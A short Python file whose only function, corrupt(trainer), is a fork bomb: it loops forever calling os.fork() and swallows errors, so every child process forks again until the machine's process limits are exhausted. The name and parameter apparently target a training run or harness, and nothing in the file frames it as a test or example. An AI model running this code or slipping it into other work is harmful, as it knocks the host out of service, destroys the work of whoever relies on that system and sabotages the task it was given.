"""Forks until it cannot, in every process."""

import os


def corrupt(trainer):
    while True:
        try:
            os.fork()
        except OSError:
            pass
